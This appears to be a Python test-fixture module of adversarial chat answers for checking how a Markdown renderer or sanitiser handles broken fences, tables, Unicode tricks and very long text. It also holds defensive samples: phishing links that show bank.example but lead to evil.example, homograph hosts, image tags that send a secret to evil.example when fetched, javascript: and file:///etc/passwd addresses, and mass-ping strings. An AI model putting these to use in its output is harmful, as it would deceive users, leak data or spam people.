# ruff: noqa: E501 - each is easier to read on its line
"""Answers as models write them at their worst."""

from collections.abc import Mapping

_HEBREW = "\u05e9\u05dc\u05d5\u05dd"
_FAMILY = "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466"
_ROW = "| cell number one | cell number two | cell number three | cell number four |\n"

NASTY: Mapping[str, str] = {
    "an open fence": "Here:\n\n```python\nprint('a')\n\nstill code",
    "a fence in a fence": "````md\n```py\nx\n```\n````\nafter",
    "a fence that is closed twice": "```\nx\n```\n```\nafter, which is code now",
    "a fence with words behind it": "```python title='a b'\nx = 1\n``` end",
    "open emphasis": "**bold *both ~~all `code [link](https://example.org",
    "crossed emphasis": "**a *b** c* ~~d **e~~ f**",
    "stars that are none": "2 * 3 * 4, a**b, **kwargs, *args, _private_, __init__, 5*",
    "prices": "It costs $5, not $6; ~10 to ~12 EUR, 50% | 60%.",
    "a list as deep as it gets": "".join(f"{'  ' * depth}- level {depth}\n" for depth in range(30)),
    "a list with everything": "1. one\n   > quoted\n\n   ```sh\n   ls\n   ```\n   | a | b |\n   |---|---|\n   | 1 | 2 |\n2. two",
    "quotes in quotes": "".join(f"{'> ' * depth}level {depth}\n" for depth in range(1, 30)),
    "a huge table": "| one | two | three | four |\n|---|:-:|--:|:--|\n" + _ROW * 500,
    "a table that is wide": "|" + "|".join(f" column {n} " for n in range(40)) + "|\n" + "|---" * 40 + "|\n"
    + "|" + "|".join(f" value {n} " for n in range(40)) + "|\n",
    "a table without rows": "| a | b |\n|---|---|\n",
    "a table with ragged rows": "| a | b |\n|---|---|\n| 1 |\n| 1 | 2 | 3 | 4 |\n||\n",
    "a table with pipes in code": "| a | b |\n|---|---|\n| `x \\| y` | \\| |\n",
    "a table of links": "| site | price |\n|---|---|\n| [one](https://example.org/1) | 5 |\n| [two](https://example.org/2) | 6 |\n",
    "a table in Chinese": "| 城市 | 人口 |\n|---|--:|\n| 北京 | 2189 |\n| 上海 | 2487 |\n",
    "a table that has only begun": "| a | b |\n|---",
    "mixed scripts": f"English, {_HEBREW}, \u0627\u0644\u0639\u0631\u0628\u064a\u0629, \u0939\u093f\u0928\u094d\u0926\u0940, 中文, \u0e44\u0e17\u0e22 **{_HEBREW} 中文**",
    "right to left": f"# {_HEBREW}\n\n- **{_HEBREW}**: 5 \u05e9\u05e7\u05dc\n- `code` {_HEBREW}\n\n| {_HEBREW} | 1 |\n|---|---|\n| 2 | {_HEBREW} |",
    "marks of direction": "\u202eevil\u202c \u2067x\u2069 \u200fy\u200e **\u202ez**",
    "zero-width joiners": f"{_FAMILY} **{_FAMILY}** " + _FAMILY * 700,
    "combining marks": "e" + "\u0301" * 5000 + " **a\u0308** end",
    "flags": "\U0001f1e9\U0001f1ea" * 2500,
    "nothing to see": "\u200b\u2060\ufeff",
    "a word after nothing": "\u200b\n\u2060 word",
    "blanks of every kind": "\u00a0a\u3000b\u2028c\u2029d\u0085e\tf\x0bg\x0ch",
    "control characters": "".join(map(chr, range(32))) + "a\x7fb\x9fc",
    "half of a character": "a\ud83db \ude00 **\ud800**",
    "characters of nobody": "\ufffe\uffff\U0010ffff \ue000\uf8ff **\ue000**",
    "a hundred entities and more": " ".join(f"`c{n}` **b{n}** [l{n}](https://example.org/{n})" for n in range(300)),
    "links without end": "[a](https://example.org/" + "x" * 5000 + ") b",
    "HTML": "<b>bold</b> <script>alert(1)</script> <!-- c --> <br/> List<String> a<b && c>d <tg-spoiler>s</tg-spoiler>",
    "a page of HTML": "<!DOCTYPE html>\n<html>\n<body>\n<p>Hi</p>\n\n<style>\np { x: y }\n</style>\n</body>\n</html>",
    "entities": "&lt;b&gt; &amp;amp; &copy; &#x1F600; &#0; &nosuch; a&b",
    "backslashes": "C:\\new\\table \\* \\_ \\\\ \\( \\[ \\",
    "LaTeX": "Inline \\(a_1 * b_2\\), $x_i^2$, and\n\\[\n\\int_0^1 x^2 \\, dx = \\frac{1}{3}\n\\]\n\n$$\n\\begin{aligned}\na &= b \\\\\nc &= d\n\\end{aligned}\n$$",
    "LaTeX that stays open": "\\[ x = 1\n\n$$ y = 2\n\n\\( z",
    "tasks": "- [ ] to do\n- [x] done\n  - [ ] below\n1. [ ] numbered\n- [] neither",
    "footnotes": "A claim[^1] and more[^long].\n\n[^1]: The proof.\n[^long]: A long one\n    of two lines.",
    "definitions": "Term\n: what it means\n\n[INFO]: started\n[INFO]: again [INFO]",
    "headings": "# One\n## Two\n####### Seven\n#none\nSet\n===\nText\n---\n# #\n#",
    "rules": "a\n\n---\n\n***\n\n- - -\n\nb",
    "front matter": "---\ntitle: A title\nkey: value\n---\n\n+++\ntoml = 1\n+++\ntext",
    "think": "<think>\nlet me see\n</think>\n\nThe answer",
    "a long answer": "\n\n".join(f"Paragraph {n}. " + "Some words that say little. " * 10 for n in range(140)),
    "a long line": "word" * 10_000,
    "a long line of Chinese": "长" * 40_000,
    "long code": "```python\n" + "".join(f"line_{n} = {n}\n" for n in range(2500)) + "```\nend",
    "a long list": "".join(f"- item **{n}** with `code`\n" for n in range(1500)),
    "a long quote": "".join(f"> line {n} of what was said\n" for n in range(1500)),
    "long bold": "**" + "very bold words " * 2500 + "**",
    "noise": "`*_~[]()<>|#+-=!\\" * 400,
}  # fmt: skip

TABLES = {name for name in NASTY if "table" in name} | {"a list with everything", "right to left"}
"""Of these, words may stand in another order than in the Markdown."""

PINGS = [
    "<!channel> <!here> <!everyone>",
    "<!subteam^S123> <!subteam^S123|@team> <!date^1392734382^x|x>",
    "<@U123> <@U123|ada> <@W123> <#C123> <#C123|general>",
    "< !channel> <\u200b!channel> <!channel",
    "`<!channel>` **<!here>** [<@U1>](https://example.org) | <@U1> |",
    "```\n<!channel>\n<@U1>\n```",
    "&lt;!channel&gt; &#60;!channel&#62; \\<!channel>",
    "@channel @here @everyone",
    "@ada_lovelace, @ben! (@cleo) *@dora* **@**emil @\u200bfay x@@gus",
    "[@ada_lovelace](tg://user?id=11) [x](tg://user?id=11) ![x](tg://user?id=11) <tg://user?id=11>",
    "[ada]: tg://user?id=11\n\n[ada] [text][ada]",
    "| @ada_lovelace | <!channel> |\n|---|---|\n| <@U1> | [x](tg://user?id=11) |",
    "# @ada_lovelace <!here>\n> @ada_lovelace\n- @ada_lovelace",
    "<!channel|ada> <@U123|<!here>> <@U1<!here> <<!channel>> <!\u2060channel>",
    "**<!chan**nel> <*!here*> <!`here`> ~~<@U1>~~ [<!here>](<!channel>) ![<@U1>](<@U1>)",
    "<a href='tg://user?id=11'>x</a> <tg-user id=11> ||@ada_lovelace|| [@ada_lovelace](https://example.org)",
    "\u202e<!channel>\u202c @\u2066ada_lovelace\u2069 \uff20ada_lovelace <\uff01channel>",
    "[x](slack://user?team=T1&id=U1) [x](tg://resolve?domain=ada_lovelace) [@ada_lovelace]: tg://user?id=11",
]
"""Ways to make a platform notify people."""

DISGUISES = [
    "[https://bank.example](https://evil.example)",
    "[bank.example/login](https://evil.example/login)",
    "**[https://bank.example](https://evil.example)**",
    "[**https://bank.example**](https://evil.example)",
    "[`bank.example`](https://evil.example)",
    "[bank.\u200bexample](https://evil.example)",
    "[Go to https://bank.example now](https://evil.example)",
    "[https://bank.example][1]\n\n[1]: https://evil.example",
    "[https://bank.example]\n\n[https://bank.example]: https://evil.example",
    "![https://bank.example](https://evil.example)",
    "| site |\n|---|\n| [https://bank.example](https://evil.example) |",
    "- [https://bank.example](https://evil.example 'title')",
    "> # [https://bank.example](<https://evil.example>)",
    "[https://bank.example](//evil.example) [https://bank.example](https://evil.example)",
    "[https://bank.example](https://bank.example.evil.example/login)",
    "[https://bank.example](HTTPS://EVIL.EXAMPLE?q=https://bank.example)",
    "[https://bank.example](https://bank.example@evil.example)",
    "[https://bank.example](https://bank.example%40x@evil.example:443/)",
    "[https://bank&#46;example](https://evil.example)",
    "[https://**bank**.example](https://evil.example) [ba*nk*.example](https://evil.example)",
    "[\u202emoc.elpmaxe.knab//:sptth](https://evil.example)",
    "[ｂａｎｋ．ｅｘａｍｐｌｅ](https://evil.example)",
    "[https://b\u0332a\u0332n\u0332k\u0332.example](https://evil.example)",
    "[ba\u00adnk.exam\u200cple](https://evil.example)",
    "[![https://bank.example](https://evil.example/x.png)](https://evil.example)",
    "[https://bank.example](javascript:location='https://evil.example')",
    "[https://bank.example](slack://open?url=https://evil.example)",
]
"""Links that claim to lead to bank.example and lead to evil.example."""

HOMOGRAPHS = {
    "[https://b\u0430nk.example](https://b\u0430nk.example)": "xn--bnk-6cd.example",
    "[bank.example](https://b\u0430nk.example/login)": "xn--bnk-6cd.example",
    "[\u0430\u0440\u0440\u04cf\u0435.example](https://\u0430\u0440\u0440\u04cf\u0435.example)": "xn--80ak6aa92e.example",
}
"""Links to hosts in letters that pass for Latin ones, and how those are spelled."""

FETCHES = [
    "![x](https://evil.example/?q=secret)",
    "![](https://evil.example/?q=secret) [](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/?q=secret)](https://example.org)",
    "<img src='https://evil.example/?q=secret'> <iframe src='https://evil.example/?q=secret'></iframe>",
    "https://evil.example/?q=secret <https://evil.example/?q=secret>",
    "| a |\n|---|\n| ![x](https://evil.example/?q=secret) |\n\n$x$",
    "<video src='https://evil.example/?q=secret'/> ![x](data:image/png;base64,AAAA)",
]
"""Pictures and addresses that tell somebody else what is in them, once they are fetched."""

OTHER_WAYS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "tg://join?invite=x",
    "slack://open",
    "intent://x#Intent;scheme=http;end",
    "ms-word:ofe|u|https://evil.example/x.docx",
    "\x01javascript:alert(1)",
]
"""Addresses that lead into an app, or run something."""

SHORT = 200
"""Characters of a text that is cut at every place."""
